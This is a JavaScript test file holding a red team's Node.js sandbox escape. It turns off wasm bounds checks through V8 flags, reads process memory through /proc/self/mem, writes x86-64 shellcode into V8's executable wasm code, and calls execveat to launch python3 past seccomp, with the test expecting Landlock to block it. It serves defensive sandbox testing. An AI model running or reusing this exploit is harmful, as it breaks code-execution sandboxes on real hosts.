// A red team's way out of node (2026-11-25), kept as a test: V8 flags changed at run time
// (memory64 wasm without bounds checks) give the program the process's memory; machine
// code written into V8's writable and executable wasm code then calls execveat, which
// node's seccomp filter leaves open (node itself is started by it), to start python3.
// The runtime layer refuses v8.setFlagsFromString when `native` is refused; with `native`
// granted and `process` refused, Landlock lets the child execute nothing but node, and
// this program exits with execveat's error (EACCES, 13). x86-64 only.
const v8 = require('v8'), fs = require('fs');
for (const f of ['--experimental-wasm-memory64', '--no-wasm-bounds-checks', '--no-wasm-tier-up', '--no-wasm-dynamic-tiering'])
  v8.setFlagsFromString(f);
const sec = (id, b) => [id, b.length, ...b];
const K = [0x48, 0x47, 0x46, 0x45, 0x44, 0x43, 0x42, 0x41];  // i64 0x4142434445464748 as LEB128 below
const wasm = [0, 97, 115, 109, 1, 0, 0, 0,
  ...sec(1, [3, 0x60, 1, 0x7e, 1, 0x7e, 0x60, 2, 0x7e, 0x7e, 0, 0x60, 0, 1, 0x7e]),
  ...sec(3, [3, 0, 1, 2]),
  ...sec(5, [1, 0x04, 2]),
  ...sec(7, [4, 3, 109, 101, 109, 2, 0, 2, 114, 100, 0, 0, 2, 119, 114, 0, 1, 2, 115, 99, 0, 2]),
  ...sec(10, [3, 7, 0, 0x20, 0, 0x29, 3, 0, 0x0b, 9, 0, 0x20, 0, 0x20, 1, 0x37, 3, 0, 0x0b,
    13, 0, 0x42, 0xc8, 0x8e, 0x99, 0xaa, 0xc4, 0xe8, 0x90, 0xa1, 0xc1, 0x0, 0x0b])];
const inst = new WebAssembly.Instance(new WebAssembly.Module(Uint8Array.from(wasm)));
const { rd, wr, sc } = inst.exports;
wr(0n, 0x1122334455667788n); wr(8n, 0x0badc0dedeadbeefn); rd(0n);
console.log('sc() =', sc().toString(16));
const maps = fs.readFileSync('/proc/self/maps', 'latin1').trim().split('\n');
const mem = fs.openSync('/proc/self/mem', 'r');
const read = (addr, n) => { const b = Buffer.alloc(n); fs.readSync(mem, b, 0, n, addr); return b; };
let base = null;
const regions = maps.map((l) => { const [r, p] = l.split(/\s+/); const [a, b] = r.split('-').map((x) => BigInt('0x' + x)); return { a, b, p, l }; });
for (const { a, b, p } of regions) {
  if (!p.startsWith('rw') || b - a !== 0x20000n) continue;
  try { const m = read(a, 16); if (m.readBigUInt64LE(0) === 0x1122334455667788n && m.readBigUInt64LE(8) === 0x0badc0dedeadbeefn) base = a; } catch {}
}
console.log('wasm memory base', base.toString(16));
let code = null;
for (const { a, b, p, l } of regions.filter((r) => r.p === 'rwxp')) {
  const buf = read(a, Number(b - a));
  const i = buf.indexOf(Buffer.from(K));
  console.log('rwx region', l.trim(), i >= 0 ? 'has sc constant at +' + i.toString(16) : '');
  if (i >= 2 && code === null) code = a + BigInt(i - 2);
}
console.log('sc code at', code.toString(16), read(code, 12).toString('hex'));
// strings and argv in wasm memory
const W = (off, bytes) => { for (let i = 0; i < bytes.length; i += 8) { const q = Buffer.alloc(8); Buffer.from(bytes.slice(i, i + 8)).copy(q); wr(BigInt(off + i), q.readBigUInt64LE(0)); } };
const str = (s) => [...Buffer.from(s + '\0')];
const P = { run: 0x100, py: 0x200, c: 0x300, cmd: 0x400, argv: 0x800 };
W(P.run, str('/run'));
W(P.py, str('/usr/bin/python3'));
W(P.c, str('-c'));
W(P.cmd, str('print("python3 started by execveat")'));
const q = (v) => { const b = Buffer.alloc(8); b.writeBigUInt64LE(v); return [...b]; };
W(P.argv, [...q(base + BigInt(P.py)), ...q(base + BigInt(P.c)), ...q(base + BigInt(P.cmd)), ...q(0n)]);
const A = (off) => q(base + BigInt(off));
const shell = [
  0xbf, 1, 0, 0, 0, 0xbe, 2, 0, 0, 0, 0x31, 0xd2, 0xb8, 72, 0, 0, 0, 0x0f, 0x05,             // fcntl(1, F_SETFD, 0): node set close-on-exec
  0xbf, 2, 0, 0, 0, 0xbe, 2, 0, 0, 0, 0x31, 0xd2, 0xb8, 72, 0, 0, 0, 0x0f, 0x05,             // fcntl(2, F_SETFD, 0)
  0x48, 0xbe, ...A(P.py), 0x48, 0xba, ...A(P.argv), 0x4d, 0x31, 0xd2, 0x4d, 0x31, 0xc0,     // rsi, rdx, r10=0, r8=0
  0xbf, 0x9c, 0xff, 0xff, 0xff, 0xb8, 0x42, 0x01, 0, 0, 0x0f, 0x05,                          // execveat(AT_FDCWD, ...)
  0x89, 0xc7, 0xf7, 0xdf, 0xb8, 0xe7, 0, 0, 0, 0x0f, 0x05];                                  // exit_group(-ret)
const pad = shell.concat(new Array((8 - shell.length % 8) % 8).fill(0x90));
for (let i = 0; i < pad.length; i += 8) wr(code + BigInt(i) - base, Buffer.from(pad.slice(i, i + 8)).readBigUInt64LE(0));
console.log('code now', read(code, 16).toString('hex'), '- calling it');
sc();
console.log('not reached');
